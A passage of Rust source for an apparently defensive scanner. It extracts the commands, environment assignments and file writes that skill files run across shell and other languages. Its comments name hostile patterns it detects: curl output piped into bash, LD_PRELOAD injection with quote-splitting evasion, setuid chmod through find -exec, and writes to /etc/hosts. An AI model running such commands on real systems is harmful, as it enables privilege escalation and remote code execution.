//! The commands a file of a skill runs, each at its line, read where a shell would run them:
//! shell through tree-sitter's bash grammar, so a word inside quotes, a heredoc, a regex or a
//! message (`grep -E "pause|admin|sudo"`, `echo "use sudo to …"`) is not a command; and the
//! program a spawning call in another language runs, its argv kept apart
//! (`subprocess.run(["grep", "-E", "a|sudo"])` runs grep, `subprocess.run(["sudo", …])` sudo,
//! `execSync("sudo …")` a shell line), its arguments read up to the call's closing parenthesis
//! over the lines that follow (a call split black- or prettier-style), a list or string held
//! by a variable (`cmd = ["sudo", "id"]; subprocess.run(cmd)`) and an imported alias
//! (`from subprocess import run as r`) read for what they hold. Code fed to an interpreter is
//! read too: a heredoc or a here-string given to a shell (`bash <<< "…"`, `cat <<'X' | bash`,
//! `echo "…" | sh`) as shell, one given to Python or Node (`python3 - <<'PY'`, `node -e "…"`)
//! for its spawning calls. The environment variables the shell sets, the files it redirects
//! output to (quotes removed, variables set to fixed text expanded, relative to a fixed `cd`,
//! the path normalised) and `find -exec`'s commands come with them. [`super::sensitive`]
//! reads these.

use std::collections::HashMap;

use tree_sitter::{Node, Parser, Tree};

use super::Source;
use super::code_lines::{CodeLine, Lang, code_lines};
use super::shell::{self, Cmd, Input, Script, Shape, Word};
use super::syntax::{self, Grammar, Unit, line_of, text};

/// One command run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invocation {
    /// 1-based, in the file.
    pub line: u32,
    /// The program's base name: `/usr/bin/curl` → `curl`.
    pub program: String,
    /// Its words as the shell passes them (quotes removed when the text is fixed, variables set
    /// to fixed text here expanded: `M=4755; chmod $M x` → `4755`, `x`).
    pub args: Vec<String>,
    /// The wrappers before it, by name: `sudo` and `env` of `sudo -E env X=1 make`.
    pub wrappers: Vec<String>,
    /// The programs whose output it reads through a pipe.
    pub upstream: Vec<String>,
    /// Its standard input comes from a redirect of its own (`sh < x`, `bash <<EOF`).
    pub input_redirected: bool,
    /// The programs whose output that redirect holds: `curl` of `bash <<< "$(curl …)"`.
    pub input_from: Vec<String>,
    /// The directory it runs in, when a `cd` to fixed text before it says (`cd /etc && …`).
    pub cwd: Option<String>,
}

/// An environment variable set: `X=1 cmd`, `export X=1`, `env X=1 cmd`, Dockerfile `ENV X=1`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    pub line: u32,
    pub name: String,
    /// The value as written, each variable the same text sets (`DIR="$(dirname "$0")"`)
    /// followed by what it was given (see [`expanded`]); `None` when not told.
    pub value: Option<String>,
}

/// Output redirected to a file: `> /etc/hosts`, `>> x.log`, `&> out`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Write {
    pub line: u32,
    pub target: String,
}

/// What one file runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Invoked {
    pub commands: Vec<Invocation>,
    pub assignments: Vec<Assignment>,
    pub writes: Vec<Write>,
    /// Inclusive ranges of lines parsed as shell here: a line signal leaves their commands to
    /// this reading.
    covered: Vec<(u32, u32)>,
}

impl Invoked {
    /// Whether line `line` was read as shell here.
    pub fn covers(&self, line: u32) -> bool {
        self.covered
            .iter()
            .any(|(first, last)| (*first..=*last).contains(&line))
    }
}

/// Shells, whose `-c` runs its operand and which run their standard input given no script.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh"];

/// Interpreters whose spawning calls are read when their code is given on the command line
/// (`python3 -c "…"`, `node -e "…"`) or on standard input (`python3 - <<'PY'`).
fn code_interpreter(program: &str) -> Option<Lang> {
    let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match stem {
        "python" | "pypy" => Some(Lang::Python),
        "node" | "deno" | "bun" => Some(Lang::JavaScript),
        "ruby" => Some(Lang::Ruby),
        _ => None,
    }
}

/// Shell text inside shell text (`bash -c "…"`, `eval "…"`, a heredoc fed to `sh`) is read
/// this many levels deep.
const MAX_DEPTH: usize = 4;

/// What `source` runs: every unit of shell tree-sitter reads (see [`syntax::units`], and
/// [`syntax::plain_units`] for the commands of `SKILL.md`'s untagged blocks), and the command
/// lines and argv of the spawning calls on its code lines in other languages.
pub fn read(source: &Source) -> Invoked {
    let mut parser = Parser::new();
    let mut out = Invoked::default();
    let mut units = syntax::units(source);
    units.extend(syntax::plain_units(source));
    for unit in units {
        if unit.grammar != Grammar::Bash {
            continue;
        }
        if read_shell(&mut parser, unit.text, unit.first_line, 0, &mut out) {
            let lines = u32::try_from(unit.text.lines().count().max(1)).unwrap_or(u32::MAX);
            out.covered
                .push((unit.first_line, unit.first_line.saturating_add(lines - 1)));
        }
    }
    let lines: Vec<CodeLine<'_>> = code_lines(source)
        .filter(|line| !matches!(line.lang, Lang::Shell | Lang::Sql | Lang::Config))
        .collect();
    for (line, spawned) in spawned_in(&lines) {
        read_shell(&mut parser, &spawned, line, 1, &mut out);
    }
    out
}

/// Read `text` as shell whose first line is `first_line`; `false` when it did not parse.
fn read_shell(
    parser: &mut Parser,
    src: &str,
    first_line: u32,
    depth: usize,
    out: &mut Invoked,
) -> bool {
    let unit = Unit {
        grammar: Grammar::Bash,
        text: src,
        first_line,
    };
    let Some(tree) = syntax::parse(parser, Grammar::Bash, src) else {
        return false;
    };
    let script = shell::read(parser, &unit);
    let dirs = directories(&tree, src, &script);
    let raw = raw_values(&tree, src);
    for node in syntax::nodes(tree.root_node()) {
        match node.kind() {
            "variable_assignment" => {
                if let Some(name) = node.child_by_field_name("name") {
                    let name = text(name, src);
                    out.assignments.push(Assignment {
                        line: line_of(node, &unit),
                        name: name.to_owned(),
                        value: node
                            .child_by_field_name("value")
                            .map(|v| expanded(text(v, src), name, &raw)),
                    });
                }
            }
            "declaration_command" => {
                // `export "LD_PRELOAD=x"`, `export LD_""PRELOAD=x`: one word to the shell.
                for (word, line) in declared(node, src, &unit) {
                    if let Some((name, value)) = word.split_once('=')
                        && is_name(name)
                    {
                        out.assignments.push(Assignment {
                            line,
                            name: name.to_owned(),
                            value: Some(expanded(value, name, &raw)),
                        });
                    }
                }
            }
            "file_redirect" => {
                if let Some(target) = written(node, src, &script) {
                    out.writes.push(Write {
                        line: line_of(node, &unit),
                        target: in_dir(&target, cwd_at(&dirs, node.start_byte()).as_deref()),
                    });
                }
            }
            _ => {}
        }
    }
    // Where each line ends, to number the shell inside a word.
    let newlines: Vec<usize> = src.match_indices('\n').map(|(at, _)| at).collect();
    for cmd in &script.commands {
        let input_from: Vec<String> = match &cmd.input {
            Some(Input::HereString(word) | Input::Here { body: word, .. }) => script
                .inside(word)
                .filter_map(Cmd::program)
                .map(str::to_owned)
                .collect(),
            _ => Vec::new(),
        };
        for (program, args) in programs(cmd, &script) {
            let invocation = Invocation {
                line: cmd.line,
                program,
                args,
                wrappers: cmd
                    .wrappers
                    .iter()
                    .filter_map(|w| w.value.as_deref())
                    .filter(|w| !w.starts_with('-') && !w.contains('='))
                    .map(|w| base_name(w).to_owned())
                    .collect(),
                upstream: cmd
                    .upstream
                    .iter()
                    .filter_map(|&i| script.commands.get(i)?.program())
                    .map(str::to_owned)
                    .collect(),
                input_redirected: cmd.input.is_some(),
                input_from: input_from.clone(),
                cwd: cwd_at(&dirs, cmd.start),
            };
            out.commands.push(invocation.clone());
            let at = Here {
                unit: &unit,
                newlines: &newlines,
                script: &script,
            };
            inner(parser, &at, cmd, &invocation, depth, out);
        }
        // `env LD_PRELOAD=x app`: the wrapper's assignments.
        if cmd.wrappers.first().and_then(|w| w.value.as_deref()) == Some("env") {
            for word in &cmd.wrappers[1..] {
                if let Some((name, value)) = word.text().split_once('=')
                    && is_name(name)
                {
                    out.assignments.push(Assignment {
                        line: cmd.line,
                        name: name.to_owned(),
                        value: Some(expanded(value, name, &raw)),
                    });
                }
            }
        }
    }
    true
}

/// The unit a command was read in, where its lines end and what its shell knows.
struct Here<'a> {
    unit: &'a Unit<'a>,
    newlines: &'a [usize],
    script: &'a Script,
}

impl Here<'_> {
    /// The line of the file byte `start` of the unit is on.
    fn line(&self, start: usize) -> u32 {
        let newlines = self.newlines.partition_point(|&at| at < start);
        self.unit
            .first_line
            .saturating_add(u32::try_from(newlines).unwrap_or(u32::MAX))
    }

    /// The text the shell gives `word`: its value, or its variables set to fixed text here.
    fn text_of(&self, word: &Word) -> Option<String> {
        word.value.clone().or_else(|| self.script.resolve(word))
    }
}

/// The shell inside a command, read as shell too: `bash -c "…"`, `su -c "…"`, `eval "…"`, a
/// heredoc or here-string fed to a shell, or the output of a `cat <<EOF`, `echo "…"` or
/// `printf '…'` piped into one; `find -exec`'s command; the spawning calls of code given to
/// Python or Node (`-c`/`-e`, a heredoc, a here-string); a Dockerfile `ENV`'s assignments.
fn inner(
    parser: &mut Parser,
    at: &Here<'_>,
    cmd: &Cmd,
    invocation: &Invocation,
    depth: usize,
    out: &mut Invoked,
) {
    let program = invocation.program.as_str();
    let args = &invocation.args;
    if program == "ENV" {
        // `ENV A=1 B=2` or `ENV A 1`.
        let set: Vec<(&str, Option<&str>)> = match args.first() {
            Some(first) if !first.contains('=') => {
                vec![(first.as_str(), args.get(1).map(String::as_str))]
            }
            _ => args
                .iter()
                .filter_map(|a| a.split_once('='))
                .map(|(name, value)| (name, Some(value)))
                .collect(),
        };
        for (name, value) in set.into_iter().filter(|(n, _)| is_name(n)) {
            out.assignments.push(Assignment {
                line: invocation.line,
                name: name.to_owned(),
                value: value.map(str::to_owned),
            });
        }
        return;
    }
    if depth >= MAX_DEPTH {
        return;
    }
    // The code given on the command line, `-c`'s operand (`-c`, `-lc`, `-ec`, …) or `-e`'s.
    let operand = |letters: &[char]| {
        let option = cmd.args.iter().position(|a| {
            let t = a.text();
            t.starts_with('-') && !t.starts_with("--") && t.contains(letters)
        })?;
        cmd.args.get(option + 1)
    };
    // Given no script, it runs its standard input.
    let reads_stdin = || {
        cmd.args
            .iter()
            .all(|a| a.text().starts_with('-') && !matches!(a.text(), "-c" | "-m" | "-e"))
    };
    let shell_like = SHELLS.contains(&program) || program == "su";
    let code = code_interpreter(program);
    if shell_like || code.is_some() {
        let letters: &[char] = if shell_like { &['c'] } else { &['c', 'e'] };
        let given = operand(letters);
        // (text, first line) of the code it runs.
        let mut codes: Vec<(String, u32)> = Vec::new();
        if let Some(word) = given
            && let Some(script) = at.text_of(word)
        {
            codes.push((script, at.line(word.start)));
        }
        if given.is_none() && reads_stdin() {
            match &cmd.input {
                Some(Input::Here { body, first_line }) => {
                    codes.extend(body.value.clone().map(|b| (b, *first_line)));
                }
                Some(Input::HereString(word)) => {
                    codes.extend(at.text_of(word).map(|t| (t, at.line(word.start))));
                }
                Some(Input::File(_)) => {}
                None => {
                    for &i in &cmd.upstream {
                        if let Some(producer) = at.script.commands.get(i) {
                            codes.extend(printed(at, producer));
                        }
                    }
                }
            }
        }
        for (text, line) in codes {
            match code {
                None => {
                    read_shell(parser, &text, line, depth + 1, out);
                }
                Some(lang) => {
                    let ext = if lang == Lang::Python { "py" } else { "js" };
                    let ext = if lang == Lang::Ruby { "rb" } else { ext };
                    let source = Source::new(&format!("stdin.{ext}"), &text);
                    let lines: Vec<CodeLine<'_>> = code_lines(&source).collect();
                    for (n, spawned) in spawned_in(&lines) {
                        read_shell(parser, &spawned, line + n - 1, depth + 1, out);
                    }
                }
            }
        }
    }
    if program == "eval" {
        let words: Option<Vec<String>> = cmd.args.iter().map(|a| at.text_of(a)).collect();
        if let (Some(words), Some(first)) = (words, cmd.args.first()) {
            read_shell(
                parser,
                &words.join(" "),
                at.line(first.start),
                depth + 1,
                out,
            );
        }
    }
    if program == "find" {
        // `find . -exec chmod u+s {} +`, `-execdir`, `-ok`: each command it runs.
        let mut words = cmd.args.iter();
        while let Some(word) = words.next() {
            if !matches!(word.text(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                continue;
            }
            let argv: Vec<Option<String>> = words
                .by_ref()
                .take_while(|w| !matches!(w.text(), ";" | "+"))
                .map(|w| Some(at.text_of(w).unwrap_or_else(|| w.raw.clone())))
                .collect();
            if !argv.is_empty() {
                read_shell(parser, &quoted(&argv), cmd.line, depth + 1, out);
            }
        }
    }
}

/// What a command piped into a shell prints, when it prints fixed text: a `cat` of a heredoc
/// or a here-string, `echo "…"`, `printf '…'`; with the line it starts on.
fn printed(at: &Here<'_>, producer: &Cmd) -> Option<(String, u32)> {
    match (producer.program()?, &producer.input) {
        ("cat", Some(Input::Here { body, first_line })) if producer.args.is_empty() => {
            Some((body.value.clone()?, *first_line))
        }
        ("cat", Some(Input::HereString(word))) if producer.args.is_empty() => {
            Some((at.text_of(word)?, at.line(word.start)))
        }
        ("echo", _) => {
            let words: Option<Vec<String>> = producer
                .args
                .iter()
                .filter(|a| !matches!(a.text(), "-n" | "-e" | "-E"))
                .map(|a| at.text_of(a))
                .collect();
            Some((words?.join(" "), producer.line))
        }
        ("printf", _) => {
            let words: Option<Vec<String>> = producer.args.iter().map(|a| at.text_of(a)).collect();
            let words = words?;
            let (format, rest) = words.split_first()?;
            // `printf '%s\n' "a" "b"` prints its arguments; `printf 'a\nb'` its format.
            let text = if format.contains('%') && !rest.is_empty() {
                rest.join("\n")
            } else {
                format.replace("\\n", "\n")
            };
            Some((text, producer.line))
        }
        _ => None,
    }
}

/// What a command runs, with its arguments: its program, or the first word of each fixed value
/// of the variable that names it (`SUDO=sudo; $SUDO apt-get …`).
fn programs(cmd: &Cmd, script: &Script) -> Vec<(String, Vec<String>)> {
    let args = || -> Vec<String> {
        cmd.args
            .iter()
            .map(|a| match &a.value {
                Some(value) => value.clone(),
                None => script.resolve(a).unwrap_or_else(|| a.raw.clone()),
            })
            .collect()
    };
    if let Some(program) = cmd.program() {
        return vec![(program.to_owned(), args())];
    }
    let Shape::Variable(name) = &cmd.name.shape else {
        return Vec::new();
    };
    script
        .values_of(name)
        .unwrap_or_default()
        .iter()
        .filter_map(|value| {
            let mut words = value.split_whitespace();
            let program = base_name(words.next()?).to_owned();
            let mut all: Vec<String> = words.map(str::to_owned).collect();
            all.extend(args());
            Some((program, all))
        })
        .collect()
}

/// The file a redirect writes, when its target is fixed text (quotes removed, variables set to
/// fixed text here expanded): `> /etc/x`, `>> "/etc"/x`, `> "$D/x"`, `&> f`, `>| f`; not
/// `2>&1`, `< f`.
fn written(node: Node<'_>, src: &str, script: &Script) -> Option<String> {
    let mut cursor = node.walk();
    let operator = node
        .children(&mut cursor)
        .find(|c| !c.is_named())
        .map(|c| c.kind())?;
    if !matches!(operator, ">" | ">>" | "&>" | "&>>" | ">|") {
        return None;
    }
    let destination = node.child_by_field_name("destination")?;
    let word = shell::word(destination, src);
    let target = match &word.value {
        Some(value) => value.clone(),
        None => script.resolve(&word)?,
    };
    (!target.is_empty() && !target.starts_with('&')).then_some(target)
}

/// The words a declaration (`export`, `declare`, `local`, `readonly`) gives the shell, each
/// with its line, when fixed: its pieces written next to each other make one word
/// (`LD_""PRELOAD=x` is `LD_PRELOAD=x`). Plain `NAME=value` assignments are read on their own.
fn declared(node: Node<'_>, src: &str, unit: &Unit<'_>) -> Vec<(String, u32)> {
    let mut groups: Vec<Vec<Node<'_>>> = Vec::new();
    let mut cursor = node.walk();
    for child in node.named_children(&mut cursor) {
        match groups.last_mut() {
            Some(group)
                if group
                    .last()
                    .is_some_and(|l| l.end_byte() == child.start_byte()) =>
            {
                group.push(child);
            }
            _ => groups.push(vec![child]),
        }
    }
    groups
        .into_iter()
        .filter(|g| !(g.len() == 1 && g[0].kind() == "variable_assignment"))
        .filter_map(|group| {
            let mut word = String::new();
            for piece in &group {
                let piece = match piece.kind() {
                    "variable_name" | "word" => Some(text(*piece, src).to_owned()),
                    _ => shell::word(*piece, src).value,
                };
                word.push_str(&piece?);
            }
            Some((word, line_of(group[0], unit)))
        })
        .collect()
}

/// The raw text each variable is given in a unit (at most a few values each), to tell where a
/// value like `"$DIR/lib"` points.
fn raw_values<'s>(tree: &Tree, src: &'s str) -> HashMap<&'s str, Vec<&'s str>> {
    let mut raw: HashMap<&str, Vec<&str>> = HashMap::new();
    for node in syntax::nodes(tree.root_node()) {
        if node.kind() != "variable_assignment" {
            continue;
        }
        if let (Some(name), Some(value)) = (
            node.child_by_field_name("name"),
            node.child_by_field_name("value"),
        ) {
            let values = raw.entry(text(name, src)).or_default();
            if values.len() < 4 {
                values.push(text(value, src));
            }
        }
    }
    raw
}

/// `value` followed by what each variable it expands was given in the same unit, two levels
/// deep: `"$DIR/lib"` with `DIR="$(dirname "$0")"` → `"$DIR/lib" ⟨"$(dirname "$0")"⟩`. The
/// variable being set is not followed (`X="$X:/opt"`).
pub fn expanded(value: &str, name: &str, raw: &HashMap<&str, Vec<&str>>) -> String {
    let mut out = value.to_owned();
    let mut pending: Vec<&str> = vec![value];
    for _ in 0..2 {
        let mut next = Vec::new();
        for text in pending {
            for used in variables_in(text) {
                if used == name {
                    continue;
                }
                for given in raw.get(used).into_iter().flatten() {
                    if out.len() < 4096 {
                        out.push_str(" ⟨");
                        out.push_str(given);
                        out.push('⟩');
                        next.push(*given);
                    }
                }
            }
        }
        pending = next;
    }
    out
}

/// The names of the variables `$X`/`${X…}` in `text`.
fn variables_in(text: &str) -> Vec<&str> {
    let mut names = Vec::new();
    for (at, _) in text.match_indices('$') {
        let rest = &text[at + 1..];
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        if end > 0 && names.len() < 8 {
            names.push(&rest[..end]);
        }
    }
    names
}

/// The directories `cd` (or `pushd`) moves to in a unit, in order: `(where the move is, where
/// its scope ends, the directory when fixed)`. A `cd` inside a subshell or a substitution ends
/// with it.
fn directories(tree: &Tree, src: &str, script: &Script) -> Vec<(usize, usize, Option<String>)> {
    let mut dirs: Vec<(usize, usize, Option<String>)> = Vec::new();
    let mut scopes: Vec<(usize, usize)> = Vec::new();
    for node in syntax::nodes(tree.root_node()) {
        if matches!(
            node.kind(),
            "subshell" | "command_substitution" | "process_substitution"
        ) && scopes.len() < 256
        {
            scopes.push((node.start_byte(), node.end_byte()));
        }
    }
    for cmd in &script.commands {
        if !matches!(cmd.program(), Some("cd" | "pushd")) {
            continue;
        }
        let dir = match cmd.args.iter().find(|a| a.text() != "--") {
            Some(word) => word.value.clone().or_else(|| script.resolve(word)),
            None => None,
        };
        let before = cwd_at(&dirs, cmd.start);
        let dir = dir.and_then(|d| {
            if d.starts_with('/') {
                Some(normalize(&d))
            } else {
                before.as_deref().map(|b| normalize(&format!("{b}/{d}")))
            }
        });
        let end = scopes
            .iter()
            .filter(|(s, e)| *s <= cmd.start && cmd.end <= *e)
            .map(|(_, e)| *e)
            .min()
            .unwrap_or(src.len());
        dirs.push((cmd.end, end, dir));
    }
    dirs
}

/// The directory at byte `at`: that of the last `cd` before it whose scope holds it.
fn cwd_at(dirs: &[(usize, usize, Option<String>)], at: usize) -> Option<String> {
    dirs.iter()
        .rev()
        .find(|(start, end, _)| *start <= at && at <= *end)
        .and_then(|(_, _, dir)| dir.clone())
}

/// `path` in directory `dir` when it is relative and the directory known, normalised.
fn in_dir(path: &str, dir: Option<&str>) -> String {
    match dir {
        Some(dir) if !path.starts_with(['/', '~', '$']) => normalize(&format!("{dir}/{path}")),
        _ if path.starts_with('/') => normalize(path),
        _ => path.to_owned(),
    }
}

/// An absolute path as the kernel reads it: `//etc/./x` → `/etc/x`, `/tmp/../etc/x` →
/// `/etc/x` (`..` taken lexically). A relative path is returned as it is.
pub fn normalize(path: &str) -> String {
    if !path.starts_with('/') {
        return path.to_owned();
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            _ => parts.push(part),
        }
    }
    format!("/{}", parts.join("/"))
}

fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// An environment variable's name: letters, digits and `_`, not starting with a digit.
fn is_name(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

// ---------------------------------------------------------------------------------------------
// Spawning calls in other languages

/// Calls that run a program. Each ends at the call's `(`, but `subprocess.` (any function of
/// it) and Rust's `Command::new(`, whose arguments follow in `.arg(…)` calls.
const SPAWNS: &[&str] = &[
    "subprocess.",
    "os.system(",
    "os.popen(",
    "Popen(",
    "check_output(",
    "check_call(",
    "create_subprocess_exec(",
    "create_subprocess_shell(",
    "execSync(",
    "execFileSync(",
    "execFile(",
    "spawnSync(",
    "spawn(",
    "exec(",
    "execa(",
    "execaSync(",
    "exec.Command(",
    "exec.CommandContext(",
    "system(",
    "Command::new(",
    "shell_exec(",
    "proc_open(",
    "ProcessBuilder(",
];

/// Python's `os.exec*` and `os.posix_spawn*`: a program, then an argv whose first word names
/// it again (`os.execvp("sudo", ["sudo", "id"])`).
const EXECS: &[&str] = &[
    "os.execv(",
    "os.execve(",
    "os.execvp(",
    "os.execvpe(",
    "os.execl(",
    "os.execle(",
    "os.execlp(",
    "os.execlpe(",
    "os.posix_spawn(",
    "os.posix_spawnp(",
];

/// At most this many spawning calls are read on one line: a minified bundle of a million
/// `system(` costs one pass, not a million parses.
const MAX_SPAWNS_PER_LINE: usize = 16;

/// A call left open at the end of its line is read on over at most this many lines and bytes
/// (a call split black- or prettier-style), one call a line: hostile input stays linear.
const MAX_CONTINUED_LINES: u32 = 12;
const MAX_CONTINUED_BYTES: usize = 2048;

/// JavaScript objects whose `.exec(` runs a command (a regex's `.exec(` matches text).
const EXEC_RECEIVERS: &[&str] = &["child_process", "childProcess", "cp", "child", "shell"];

/// Functions of Python's `subprocess` and `os`, and of Node's `child_process`, that run a
/// program: an alias of one (`from subprocess import run as r`) is a spawning call.
const SPAWN_FUNCTIONS: &[&str] = &[
    "run",
    "call",
    "check_call",
    "check_output",
    "Popen",
    "getoutput",
    "getstatusoutput",
    "system",
    "popen",
    "exec",
    "execSync",
    "execFile",
    "execFileSync",
    "spawn",
    "spawnSync",
];

/// What a file's code says about its calls beyond one line: the aliases of spawning functions
/// and modules it imports, and the fixed values its variables are given.
#[derive(Debug, Default)]
struct Known {
    /// `r(` of `from subprocess import run as r`, `run(` of `from subprocess import run`.
    calls: Vec<String>,
    /// `sp.` of `import subprocess as sp`, `cp` of `const cp = require("child_process")`.
    modules: Vec<String>,
    /// `cmd` → `["sudo", "id"]` of `cmd = ["sudo", "id"]` (at most a few values a name).
    values: HashMap<String, Vec<Argument>>,
}

/// At most this many aliases and variables are kept for a file.
const MAX_KNOWN: usize = 64;

impl Known {
    fn of(lines: &[CodeLine<'_>]) -> Self {
        let mut known = Self::default();
        for (i, line) in lines.iter().enumerate() {
            let text = line.text.trim();
            match line.lang {
                Lang::Python => known.python_import(text),
                Lang::JavaScript => known.js_import(text),
                _ => {}
            }
            if known.values.len() >= MAX_KNOWN {
                continue;
            }
            let Some((name, value)) = assigned(text, line.lang) else {
                continue;
            };
            let whole;
            let value = if value.starts_with('[') && !value.trim_end().ends_with(']') {
                whole = continued(lines, i);
                let at = whole.find(value).unwrap_or(0);
                bracketed(&whole[at..])
            } else {
                value
            };
            let value = match argument(value, true) {
                list @ Argument::List(_) => list,
                literal @ Argument::Literal(_) if !value.contains('+') => literal,
                _ => continue,
            };
            let values = known.values.entry(name.to_owned()).or_default();
            if values.len() < 4 && !values.contains(&value) {
                values.push(value);
            }
        }
        known
    }

    fn python_import(&mut self, text: &str) {
        if let Some(rest) = text.strip_prefix("import ") {
            for item in rest.split(',') {
                if let Some((module, alias)) = item.split_once(" as ")
                    && matches!(module.trim(), "subprocess" | "os")
                {
                    self.add_module(alias.trim());
                }
            }
        } else if let Some(rest) = text.strip_prefix("from ")
            && let Some((module, names)) = rest.split_once(" import ")
            && matches!(module.trim(), "subprocess" | "os" | "asyncio")
        {
            for item in names.trim_matches(['(', ')', ' ']).split(',') {
                let (function, alias) = item.split_once(" as ").unwrap_or((item, item));
                if SPAWN_FUNCTIONS.contains(&function.trim()) || function.trim().starts_with("exec")
                {
                    self.add_call(alias.trim());
                }
            }
        }
    }

    fn js_import(&mut self, text: &str) {
        if !text.contains("child_process") {
            return;
        }
        // `const { execSync: run } = require("child_process")`,
        // `import { execSync as run } from "child_process"`.
        if let Some(open) = text.find('{')
            && let Some(close) = text[open..].find('}')
        {
            for item in text[open + 1..open + close].split(',') {
                let (function, alias) = item
                    .split_once(':')
                    .or_else(|| item.split_once(" as "))
                    .unwrap_or((item, item));
                if SPAWN_FUNCTIONS.contains(&function.trim()) {
                    self.add_call(alias.trim());
                }
            }
            return;
        }
        // `const cp = require("child_process")`, `import * as cp from "child_process"`.
        let name = text
            .strip_prefix("import * as ")
            .or_else(|| {
                ["const ", "let ", "var "]
                    .iter()
                    .find_map(|k| text.strip_prefix(k))
            })
            .and_then(|rest| rest.split([' ', '=']).next());
        if let Some(name) = name {
            self.add_module(name.trim());
        }
    }

    fn add_call(&mut self, name: &str) {
        if is_identifier(name) && self.calls.len() < MAX_KNOWN {
            self.calls.push(format!("{name}("));
        }
    }

    fn add_module(&mut self, name: &str) {
        if is_identifier(name) && self.modules.len() < MAX_KNOWN {
            self.modules.push(name.to_owned());
        }
    }
}

/// `name = value` (Python) or `const|let|var name = value` (JavaScript), the value trimmed.
fn assigned(text: &str, lang: Lang) -> Option<(&str, &str)> {
    let text = match lang {
        Lang::JavaScript => ["const ", "let ", "var "]
            .iter()
            .find_map(|k| text.strip_prefix(k))?,
        Lang::Python => text,
        _ => return None,
    };
    let (name, value) = text.split_once('=')?;
    let name = name.trim();
    let value = value.trim().trim_end_matches(';');
    (is_identifier(name) && !value.starts_with('=')).then_some((name, value))
}

/// `text` up to the bracket that closes its first (`[…]` of `[…]\nrest`), quotes respected;
/// all of it when none does.
fn bracketed(text: &str) -> &str {
    let bytes = text.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            q @ (b'"' | b'\'' | b'`') => i = closing(bytes, i, q),
            b'[' | b'(' | b'{' => depth += 1,
            b']' | b')' | b'}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return &text[..=i];
                }
            }
            _ => {}
        }
        i += 1;
    }
    text
}

fn is_identifier(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_' || c == '$')
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
}

/// The text of line `i` and the code lines after it in the same reading, each on the line it
/// holds (blank and comment lines kept as empty lines), up to [`MAX_CONTINUED_LINES`] and
/// [`MAX_CONTINUED_BYTES`].
fn continued(lines: &[CodeLine<'_>], i: usize) -> String {
    let first = &lines[i];
    let mut joined = first.text.to_owned();
    let mut number = first.number;
    for next in &lines[i + 1..] {
        if next.lang != first.lang
            || next.number <= number
            || next.number - first.number > MAX_CONTINUED_LINES
            || joined.len() + next.text.len() > first.text.len() + MAX_CONTINUED_BYTES
        {
            break;
        }
        for _ in number..next.number {
            joined.push('\n');
        }
        joined.push_str(next.text);
        number = next.number;
    }
    joined
}

/// The shell each spawning call on `lines` (code lines of one file in a language that is not
/// shell) runs, with the line it starts on: a command line given as one string (`os.system("…")`,
/// `execSync("…")`, `subprocess.run("…", shell=True)`, a Ruby or zx backtick string) as
/// written, an argv (`["sudo", "apt-get", x]`, `spawn("sudo", [...])`, `exec.Command("sudo",
/// "x")`) with each word quoted, so a `|` inside one stays a word.
fn spawned_in(lines: &[CodeLine<'_>]) -> Vec<(u32, String)> {
    let known = Known::of(lines);
    let mut found = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let own = line.text;
        let (mut calls, open) = spawned_at(own, own.len(), None, line.lang, &known);
        if let Some(open) = open {
            let joined = continued(lines, i);
            if joined.len() > own.len() {
                calls = spawned_at(&joined, own.len(), Some(open), line.lang, &known).0;
                for (at, shell) in calls {
                    let below = joined[..at].matches('\n').count();
                    let below = u32::try_from(below).unwrap_or(u32::MAX);
                    found.push((line.number.saturating_add(below), shell));
                }
                continue;
            }
        }
        found.extend(calls.into_iter().map(|(_, shell)| (line.number, shell)));
    }
    found
}

/// The spawning calls that start before byte `end` of `text`, each with the byte where what it
/// runs is written, and the `(` of the first whose arguments `text` leaves open. The call whose
/// `(` is `extend` reads its arguments to the end of `text`; the others to `end`.
fn spawned_at(
    text: &str,
    end: usize,
    extend: Option<usize>,
    lang: Lang,
    known: &Known,
) -> (Vec<(usize, String)>, Option<usize>) {
    let line = &text[..end];
    // (`(` of the call, pattern, whether it is an `os.exec*`).
    let mut opens: Vec<(usize, bool)> = Vec::new();
    let patterns = SPAWNS
        .iter()
        .map(|s| (*s, false, false))
        .chain(EXECS.iter().map(|s| (*s, true, false)))
        .chain(known.calls.iter().map(|s| (s.as_str(), false, true)))
        .chain(known.modules.iter().map(|m| (m.as_str(), false, true)));
    for (spawn, exec, alias) in patterns {
        let module = alias && !spawn.ends_with('(');
        let mut from = 0;
        while opens.len() < MAX_SPAWNS_PER_LINE
            && let Some(at) = line.get(from..).and_then(|t| t.find(spawn))
        {
            let at = from + at;
            from = at + spawn.len();
            if !is_spawn(line, at, spawn, lang, alias, known) {
                continue;
            }
            let open = if spawn == "subprocess." || module {
                // `subprocess.run(`, `sp.check_output(`, `cp.execSync(`.
                let rest = if module {
                    match line[from..].strip_prefix('.') {
                        Some(rest) => rest,
                        None => continue,
                    }
                } else {
                    &line[from..]
                };
                let name_len = rest
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(rest.len());
                let at_name = end - rest.len();
                let function = &rest[..name_len];
                if !rest[name_len..].starts_with('(')
                    || (module && !SPAWN_FUNCTIONS.contains(&function))
                {
                    continue;
                }
                at_name + name_len
            } else {
                from - 1
            };
